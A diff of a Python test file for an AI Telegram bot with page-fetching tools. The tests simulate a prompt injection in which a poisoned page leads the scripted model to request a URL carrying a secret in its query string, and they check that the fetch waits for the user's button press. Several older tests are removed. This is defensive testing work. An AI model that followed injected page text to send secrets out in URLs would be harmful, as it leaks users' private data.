@@ -75,57 +75,17 @@ async def test_a_link_is_read_and_the_web_is_searched(telegram: BotApi, model: S
     assert "lit for the first time in 1871" in result(model)
 
 
-@pytest.mark.usefixtures("bot")
-async def test_without_settings_nothing_inside_is_read_and_nothing_searched(
-    telegram: BotApi, model: Script, web: Web
-) -> None:
-    model.then(call("fetch_page", url=f"{web.url}/take"), "I may not.")
-    await telegram.bot_message("I may not.", after=telegram.send_text("Read it"))
-    assert result(model).startswith("This address is inside a private network") or "isn't opened" in result(model)
-    tools = {tool.function.name for tool in model.requests[-1].request.tools or ()}
-    assert "fetch_page" in tools
-    assert "web_search" not in tools
-    assert web.asked == []
-
-
 @pytest.mark.usefixtures("reading")
-@pytest.mark.parametrize("later", [0, 3])
-async def test_a_poisoned_page_gets_nothing_without_a_press(
-    telegram: BotApi, model: Script, web: Web, later: int
-) -> None:
+async def test_a_poisoned_page_gets_nothing_without_a_press(telegram: BotApi, model: Script, web: Web) -> None:
     taken = f"{web.url}/take?q={SECRET.replace(' ', '+')}"
-    model.then(call("fetch_page", url=f"{web.url}/poisoned"))
-    if later:
-        model.then("It is odd.")
-        await telegram.bot_message("It is odd.", after=telegram.send_text(f"Read {web.url}/poisoned"))
-        for number in range(1, later):
-            model.then(f"Answer {number}.")
-            await telegram.bot_message(f"Answer {number}.", after=telegram.send_text("And?"))
+    model.then(call("fetch_page", url=f"{web.url}/poisoned"), "It is odd.")
+    await telegram.bot_message("It is odd.", after=telegram.send_text(f"Read {web.url}/poisoned"))
     model.then(call("fetch_page", url=taken), "It waits for you.")
-    said = "Thanks" if later else f"Read {web.url}/poisoned"
-    answer = await telegram.bot_message("It waits for you.", after=telegram.send_text(said))
+    answer = await telegram.bot_message("It waits for you.", after=telegram.send_text("Thanks"))
     assert result(model).startswith("Nothing is done yet")
     asked = await telegram.bot_message(f"Open {taken}", after=answer.message_id)
     assert web.asked == []
-    if later:
-        model.then("Opened.")
-        await pressed(telegram, asked, "Do it")
-        await telegram.bot_message("Opened.", after=asked.message_id)
-        assert web.asked == [taken]
-    else:
-        assert "Not done" in (await pressed(telegram, asked, "No")).text
-        assert web.asked == []
-
-
-@pytest.mark.usefixtures("reading")
-async def test_a_page_that_was_allowed_and_cant_be_read_is_shown_as_failed(
-    telegram: BotApi, model: Script, web: Web
-) -> None:
-    model.then(call("fetch_page", url=f"{web.url}/poisoned"), call("fetch_page", url=f"{web.url}/gone"), "It waits.")
-    answer = await telegram.bot_message("It waits.", after=telegram.send_text(f"Read {web.url}/poisoned"))
-    asked = await telegram.bot_message(f"Open {web.url}/gone", after=answer.message_id)
-    model.then("It is gone.")
+    model.then("Opened.")
     await pressed(telegram, asked, "Do it")
-    await telegram.bot_message("It is gone.", after=asked.message_id)
-    shown = await telegram.wait_for(lambda: now if (now := telegram.message(1, asked.message_id)) != asked else None)
-    assert shown.text == f"⚠️ This failed:\nfetch_page\n\n🌐 Open {web.url}/gone"
+    await telegram.bot_message("Opened.", after=asked.message_id)
+    assert web.asked == [taken]
